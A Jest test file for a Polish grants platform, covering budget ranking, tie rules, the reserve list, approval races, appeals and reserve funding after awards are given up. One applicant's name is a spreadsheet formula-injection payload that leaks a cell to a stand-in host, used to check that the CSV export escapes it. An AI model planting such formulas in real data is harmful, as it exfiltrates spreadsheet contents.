import { jest } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { ManualClock } from '@app/common';
import { expectEventually } from '../support/eventually.js';
import {
  acceptAndScore,
  acceptedPayload,
  addEvaluators,
  addExchangeRate,
  createPublishedCall,
  evaluationsOf,
  grantsEvents,
  grantsQuery,
  startGrants,
  startTokenIssuer,
  type Account,
  type Evaluator,
  type Platform,
  type TokenIssuer,
} from '../support/grants-fixtures.js';

jest.setTimeout(90_000);

const FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"Kliknij")';

/**
 * Issue 4 (c) and (d): ranking within the budget with the tie rules and the reserve list, the
 * approval race, one decision event per application, CSV; appeals and funding from the reserve.
 */
describe('grants: ranking, decisions and appeals', () => {
  let platform: Platform;
  let issuer: TokenIssuer;
  let operator: Account;
  let applicant: Account;
  let appellant: Account;
  let pool: Evaluator[];
  let call: any;
  const apps: Record<string, ReturnType<typeof acceptedPayload>> = {};
  const clock = new ManualClock(new Date('2027-01-04T09:00:00+01:00'));

  beforeAll(async () => {
    issuer = await startTokenIssuer();
    platform = await startGrants(clock, issuer);
    operator = await issuer.account('operator');
    applicant = await issuer.account('applicant');
    appellant = await issuer.account('applicant', { name: 'Ewa Odwołująca' });
    call = await createPublishedCall(platform, operator.token, { budget: 22_000_000 });
    clock.set(new Date('2027-01-21T09:00:00+01:00'));
    pool = await addEvaluators(platform, issuer, operator.token, call.id, 3, { chairFirst: true });

    const spec: [string, number, number, number, Account][] = [
      // name, score, amount, eligible jobs
      ['A', 90, 8_000_000, 1, applicant],
      ['B', 80, 8_000_000, 1, applicant],
      ['F', 80, 4_000_000, 2, applicant], // ties with B on score, more jobs for eligible persons: above B
      ['C', 70, 6_000_000, 1, applicant], // does not fit in the 2,000,000 left: reserve
      ['D', 65, 2_000_000, 1, applicant], // would fit, but no skipping down: reserve
      ['E', 40, 2_000_000, 2, appellant], // below the threshold (60 of 100)
    ];
    for (const [name, score, amount, jobs, who] of spec) {
      const payload = acceptedPayload({
        callId: call.id,
        applicant: who,
        amount,
        jobs: Array.from({ length: jobs }, () => ({ eligiblePerson: true })),
      });
      // an applicant's name a spreadsheet would run as a formula: the CSV must write it as text
      if (name === 'A') payload.entityName = FORMULA;
      apps[name] = payload;
      await acceptAndScore(platform, pool, payload, [score, score]);
    }
    await expectEventually(async () => {
      const rows = await grantsQuery(
        platform,
        `SELECT count(*)::int AS n FROM grants.applications WHERE evaluation_stage = 'final'`,
      );
      expect(rows[0].n).toBe(6);
    });
  });

  afterAll(async () => {
    await platform?.close();
    await issuer?.close();
  });

  const refOf = (name: string) => apps[name]!.reference;

  it('ranks by score, then jobs for eligible persons; funds top-down within the budget, the rest on the reserve list', async () => {
    const ranking = await platform.api.get(`/api/calls/${call.id}/ranking`, operator.token);
    expect(ranking.status).toBe(200);
    expect(ranking.body.approved).toBe(false);
    expect(
      ranking.body.rows.map((r: any) => [r.reference, r.rank, r.status, r.remainingBudget]),
    ).toEqual([
      [refOf('A'), 1, 'funded', 14_000_000],
      [refOf('F'), 2, 'funded', 10_000_000],
      [refOf('B'), 3, 'funded', 2_000_000],
      [refOf('C'), 4, 'reserve', 2_000_000],
      [refOf('D'), 5, 'reserve', 2_000_000],
      [refOf('E'), null, 'below-threshold', 2_000_000],
    ]);
    expect(ranking.body).toMatchObject({
      fundedTotal: 20_000_000,
      remainingBudget: 2_000_000,
      requiredScore: 60,
      maxScore: 100,
    });

    const csv = await fetch(`${platform.api.url}/api/calls/${call.id}/ranking?format=csv`, {
      headers: { authorization: `Bearer ${operator.token}` },
    });
    expect(csv.headers.get('content-type')).toContain('text/csv');
    const bytes = Buffer.from(await csv.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.subarray(3).toString('utf8');
    expect(text.split('\r\n')[0]).toBe(
      'Pozycja,Numer wniosku,Wnioskodawca,Kod powiatu (TERYT),Liczba punktów,' +
        'Miejsca pracy dla osób uprawnionych,Data złożenia,Kwota (zł),Status,Pozostały budżet (zł)',
    );
    const records = parse(text, { columns: true });
    expect(records).toHaveLength(6);
    expect(records[0]).toMatchObject({
      Pozycja: '1',
      'Numer wniosku': refOf('A'),
      Wnioskodawca: `'${FORMULA}`,
      'Liczba punktów': '90',
      'Kwota (zł)': '80000.00',
      Status: 'funded',
    });
  });

  it('lets only an operator or the chair see and approve, and only once the call has closed', async () => {
    const member = pool[1]!;
    expect((await platform.api.get(`/api/calls/${call.id}/ranking`, member.token)).status).toBe(
      403,
    );
    expect((await platform.api.get(`/api/calls/${call.id}/ranking`, applicant.token)).status).toBe(
      403,
    );
    expect(
      (await platform.api.post(`/api/calls/${call.id}/ranking/approve`, {}, member.token)).status,
    ).toBe(403);
    expect((await platform.api.get(`/api/calls/${call.id}/ranking`, pool[0]!.token)).status).toBe(
      200,
    );
    clock.set(new Date('2027-01-20T15:00:00+01:00'));
    const early = await platform.api.post(
      `/api/calls/${call.id}/ranking/approve`,
      {},
      operator.token,
    );
    expect(early.status).toBe(422);
    expect(early.body.code).toBe('CALL_NOT_CLOSED');
  });

  it('of two concurrent approvals one wins and the other gets a 409; one decision event per application', async () => {
    clock.set(new Date('2027-01-25T10:00:00+01:00'));
    const [byChair, byOperator] = await Promise.all([
      platform.api.post(`/api/calls/${call.id}/ranking/approve`, {}, pool[0]!.token),
      platform.api.post(`/api/calls/${call.id}/ranking/approve`, {}, operator.token),
    ]);
    expect([byChair.status, byOperator.status].sort()).toEqual([200, 409]);
    const loser = byChair.status === 409 ? byChair : byOperator;
    expect(loser.body.code).toBe('RANKING_ALREADY_APPROVED');
    const [funded] = await grantsQuery(
      platform,
      `SELECT count(*)::int AS decisions, COALESCE(sum(amount) FILTER (WHERE outcome = 'funded'), 0)::int AS funded FROM grants.decisions`,
    );
    expect(funded).toEqual({ decisions: 6, funded: 20_000_000 });

    const granted = await grantsEvents(platform, 'grants.award.granted');
    const rejected = await grantsEvents(platform, 'grants.award.rejected');
    expect(granted.map((e) => e.reference).sort()).toEqual(
      [refOf('A'), refOf('B'), refOf('F')].sort(),
    );
    expect(granted.find((e) => e.reference === refOf('F'))).toMatchObject({
      rank: 2,
      amount: 4_000_000,
      score: 80,
      maxScore: 100,
      appealLastDay: '2027-02-01',
      appealTermWorkingDays: 5,
      afterAppeal: false,
      applicant: { userId: applicant.id, email: applicant.email, language: 'pl' },
    });
    expect(rejected.map((e) => [e.reference, e.outcome, e.rank]).sort()).toEqual(
      [
        [refOf('C'), 'reserve', 4],
        [refOf('D'), 'reserve', 5],
        [refOf('E'), 'below-threshold', null],
      ].sort(),
    );
    // The reserve decisions say what was left of the budget (their e-mails show it).
    expect(rejected.map((e) => [e.reference, e.remainingBudget]).sort()).toEqual(
      [
        [refOf('C'), 2_000_000],
        [refOf('D'), 2_000_000],
        [refOf('E'), undefined],
      ].sort(),
    );
    expect(JSON.stringify([...granted, ...rejected])).not.toMatch(/pesel/i);
    const published = await grantsEvents(platform, 'grants.ranking.published');
    expect(published).toEqual([
      expect.objectContaining({
        version: 1,
        funded: 3,
        reserve: 2,
        rejected: 1,
        remainingBudget: 2_000_000,
      }),
    ]);
    const awards = await platform.api.get(`/api/awards?callId=${call.id}`, operator.token);
    expect(awards.body.items).toHaveLength(3);
  });

  it('shows applicants their own decisions only', async () => {
    const mine = await platform.api.get('/api/decisions', appellant.token);
    expect(mine.body.items.map((d: any) => d.reference)).toEqual([refOf('E')]);
    const others = await platform.api.get('/api/decisions', applicant.token);
    expect(others.body.items).toHaveLength(5);
    const e = mine.body.items[0];
    expect((await platform.api.get(`/api/decisions/${e.id}`, applicant.token)).status).toBe(404);
    expect((await platform.api.get(`/api/awards`, appellant.token)).body.items).toEqual([]);
  });

  it('takes an appeal within the term; a new evaluator scores it; the lower score is replaced; reserve funded after the term', async () => {
    const decision = (await platform.api.get('/api/decisions', appellant.token)).body.items[0];
    const badCriteria = await platform.api.post(
      `/api/decisions/${decision.id}/appeal`,
      { criteria: ['K9'], justification: 'Ocena pominęła analizę rynku.' },
      appellant.token,
    );
    expect(badCriteria.status).toBe(400);
    expect(
      (
        await platform.api.post(
          `/api/decisions/${decision.id}/appeal`,
          { criteria: ['K1'], justification: 'Ocena pominęła analizę rynku.' },
          applicant.token,
        )
      ).status,
    ).toBe(404);
    const funded = (await platform.api.get('/api/decisions', applicant.token)).body.items.find(
      (d: any) => d.reference === refOf('A'),
    );
    expect(
      (
        await platform.api.post(
          `/api/decisions/${funded.id}/appeal`,
          { criteria: ['K1'], justification: 'Chcemy więcej punktów.' },
          applicant.token,
        )
      ).body.code,
    ).toBe('NOTHING_TO_APPEAL');

    const appeal = await platform.api.post(
      `/api/decisions/${decision.id}/appeal`,
      { criteria: ['K1', 'K2'], justification: 'Ocena pominęła analizę rynku w sekcji 3.' },
      appellant.token,
    );
    expect(appeal.status).toBe(201);
    expect(appeal.body).toMatchObject({ status: 'pending', scoreBefore: 40 });
    expect(
      (
        await platform.api.post(
          `/api/decisions/${decision.id}/appeal`,
          { criteria: ['K1'], justification: 'Jeszcze raz to samo.' },
          appellant.token,
        )
      ).status,
    ).toBe(409);

    // the appeal goes to the one pool member who never scored E
    const scoredE = await grantsQuery(
      platform,
      `SELECT evaluator_id FROM grants.evaluations WHERE application_id = $1 AND round = 'first'`,
      [apps.E!.applicationId],
    );
    const fresh = pool.find((p) => !scoredE.map((r) => r.evaluator_id).includes(p.id))!;
    const appealEvaluation = await expectEventually(async () => {
      const found = (await evaluationsOf(platform, fresh)).find((e) => e.round === 'appeal');
      expect(found).toBeDefined();
      return found!;
    });
    const view = await (async () => {
      await platform.api.post(
        `/api/evaluations/${appealEvaluation.id}/declaration`,
        { conflictOfInterest: false, confidentiality: true },
        fresh.token,
      );
      return platform.api.get(`/api/evaluations/${appealEvaluation.id}`, fresh.token);
    })();
    expect(view.body.appeal).toMatchObject({ criteria: ['K1', 'K2'] });
    const scored = await platform.api.post(
      `/api/evaluations/${appealEvaluation.id}/scores`,
      {
        scores: [
          { criterionId: 'K1', points: 30, justification: 'Pełna' },
          { criterionId: 'K2', points: 20, justification: 'Pełna' },
          { criterionId: 'K3', points: 20, justification: 'Pełna' },
          { criterionId: 'K4', points: 20, justification: 'Pełna' },
          { criterionId: 'K5', points: 10, justification: 'Pełna' },
        ],
      },
      fresh.token,
    );
    expect(scored.status).toBe(200);
    // (40 + 100) / 2 = 70: now positive; ties with C on score, more eligible jobs: above C
    const after = await platform.api.get(`/api/decisions/${decision.id}`, appellant.token);
    expect(after.body).toMatchObject({
      score: 70,
      standing: 'reserve',
      appeal: { status: 'upheld', scoreAfter: 70 },
    });
    expect(await grantsEvents(platform, 'grants.appeal.resolved')).toEqual([
      expect.objectContaining({ outcome: 'upheld', scoreBefore: 40, scoreAfter: 70, passed: true }),
    ]);

    // nothing is funded from the reserve list while the appeal term runs
    await platform.api.post('/api/monitoring/run', {}, operator.token);
    expect(await grantsEvents(platform, 'grants.ranking.published')).toHaveLength(1);

    // after the term: E is funded from the 2,000,000 left; C does not fit, D is not skipped to
    clock.set(new Date('2027-02-02T08:00:00+01:00'));
    const late = await platform.api.post(
      `/api/decisions/${(await platform.api.get('/api/decisions', applicant.token)).body.items.find((d: any) => d.reference === refOf('D')).id}/appeal`,
      { criteria: ['K1'], justification: 'Spóźnione odwołanie.' },
      applicant.token,
    );
    expect(late.status).toBe(422);
    expect(late.body.code).toBe('APPEAL_TERM_OVER');
    const run = await platform.api.post('/api/monitoring/run', {}, operator.token);
    expect(run.body.callsSettledAfterAppeals).toBe(1);
    const republished = await grantsEvents(platform, 'grants.ranking.published');
    expect(republished[1]).toMatchObject({
      version: 2,
      afterAppeals: true,
      funded: 4,
      reserve: 2,
      rejected: 0,
      remainingBudget: 0,
    });
    const grantedAfter = (await grantsEvents(platform, 'grants.award.granted')).filter(
      (e) => e.afterAppeal,
    );
    expect(grantedAfter).toEqual([
      expect.objectContaining({ reference: refOf('E'), amount: 2_000_000, rank: 4 }),
    ]);
    const ranking = await platform.api.get(`/api/calls/${call.id}/ranking`, operator.token);
    expect(ranking.body).toMatchObject({
      version: 2,
      appealsSettled: true,
      fundedTotal: 22_000_000,
      remainingBudget: 0,
    });
    expect(ranking.body.rows.map((r: any) => [r.reference, r.rank, r.status])).toEqual([
      [refOf('A'), 1, 'funded'],
      [refOf('F'), 2, 'funded'],
      [refOf('B'), 3, 'funded'],
      [refOf('E'), 4, 'funded'],
      [refOf('C'), 5, 'reserve'],
      [refOf('D'), 6, 'reserve'],
    ]);
    // runs once
    await platform.api.post('/api/monitoring/run', {}, operator.token);
    expect(await grantsEvents(platform, 'grants.ranking.published')).toHaveLength(2);
  });

  it('frees the money of a given-up award for the reserve list, in ranking order, and publishes the list again', async () => {
    let awards: any[] = [];
    const loadAwards = async () => {
      awards = (await platform.api.get(`/api/awards?callId=${call.id}`, operator.token)).body.items;
    };
    await loadAwards();
    const awardOf = (name: string) => awards.find((a) => a.reference === refOf(name))!;
    const giveUp = (name: string, token: string, body: Record<string, unknown> = {}) =>
      platform.api.post(
        `/api/awards/${awardOf(name).id}/give-up`,
        { reason: 'Grupa rezygnuje z założenia przedsiębiorstwa', ...body },
        token,
      );

    expect((await giveUp('B', appellant.token)).status).toBe(404); // not theirs
    const noReason = await platform.api.post(
      `/api/awards/${awardOf('B').id}/give-up`,
      {},
      applicant.token,
    );
    expect(noReason.status).toBe(400);
    expect(noReason.body.errors.map((e: any) => e.path)).toEqual(['reason']);

    // after the agreement an award is not given up here
    clock.set(new Date('2027-02-10T10:00:00+01:00'));
    await addExchangeRate(platform, operator.token, '2027-02-10');
    const signed = await platform.api.post(
      `/api/awards/${awardOf('A').id}/agreement`,
      {
        signedOn: '2027-02-10',
        security: { kind: 'blank-promissory-note', declarationSigned: true },
        deMinimisCertificateNumber: 'DM/2027/0001',
      },
      operator.token,
    );
    expect(signed.status).toBe(200);
    const afterAgreement = await giveUp('A', applicant.token);
    expect(afterAgreement.status).toBe(409);
    expect(afterAgreement.body.code).toBe('AGREEMENT_ALREADY_SIGNED');
    expect(await grantsEvents(platform, 'grants.award.given-up')).toEqual([]);

    // B (8,000,000) gives up: C (6,000,000) and then D (2,000,000) are funded from the reserve
    const given = await giveUp('B', applicant.token);
    expect(given.status).toBe(200);
    expect(given.body).toMatchObject({
      status: 'given-up',
      givenUp: { by: applicant.id, reason: 'Grupa rezygnuje z założenia przedsiębiorstwa' },
    });
    expect(await grantsEvents(platform, 'grants.award.given-up')).toEqual([
      expect.objectContaining({ reference: refOf('B'), amount: 8_000_000, by: 'applicant' }),
    ]);
    const fromReserve = (await grantsEvents(platform, 'grants.award.granted')).filter(
      (e) => e.fromReserve,
    );
    expect(fromReserve.map((e) => [e.reference, e.rank, e.amount])).toEqual([
      // B is off the list: the ones below it move up
      [refOf('C'), 4, 6_000_000],
      [refOf('D'), 5, 2_000_000],
    ]);
    expect((await grantsEvents(platform, 'grants.ranking.published'))[2]).toMatchObject({
      version: 3,
      funded: 5,
      reserve: 0,
      fundedTotal: 22_000_000,
      remainingBudget: 0,
    });
    const ranking = await platform.api.get(`/api/calls/${call.id}/ranking`, operator.token);
    expect(ranking.body).toMatchObject({ version: 3, fundedTotal: 22_000_000, remainingBudget: 0 });
    expect(ranking.body.rows.map((r: any) => [r.reference, r.rank, r.status])).toEqual([
      [refOf('A'), 1, 'funded'],
      [refOf('F'), 2, 'funded'],
      [refOf('E'), 3, 'funded'],
      [refOf('C'), 4, 'funded'],
      [refOf('D'), 5, 'funded'],
      [refOf('B'), null, 'given-up'],
    ]);

    // a given-up award takes nothing more
    expect((await giveUp('B', applicant.token)).body.code).toBe('AWARD_GIVEN_UP');
    const agreement = await platform.api.post(
      `/api/awards/${awardOf('B').id}/agreement`,
      {
        signedOn: '2027-02-10',
        security: { kind: 'aval', avalist: 'Jan Nowak' },
        deMinimisCertificateNumber: 'DM/2027/0002',
      },
      operator.token,
    );
    expect(agreement.status).toBe(409);

    await loadAwards(); // C's and D's new awards
    expect(awards).toHaveLength(6);
    // an operator gives up D for its applicant: nothing is left on the reserve list, the money is shown
    const byOperator = await giveUp('D', operator.token, {
      reason: 'Pismo wnioskodawcy z 9 lutego',
    });
    expect(byOperator.status).toBe(200);
    expect((await grantsEvents(platform, 'grants.award.given-up'))[1]).toMatchObject({
      reference: refOf('D'),
      by: 'operator',
    });
    const last = await platform.api.get(`/api/calls/${call.id}/ranking`, operator.token);
    expect(last.body).toMatchObject({
      version: 4,
      fundedTotal: 20_000_000,
      remainingBudget: 2_000_000,
    });
    const [{ committed }] = await grantsQuery(
      platform,
      `SELECT sum(amount)::int AS committed FROM grants.awards WHERE call_id = $1 AND status <> 'given-up'`,
      [call.id],
    );
    expect(committed).toBe(20_000_000);
  });
});
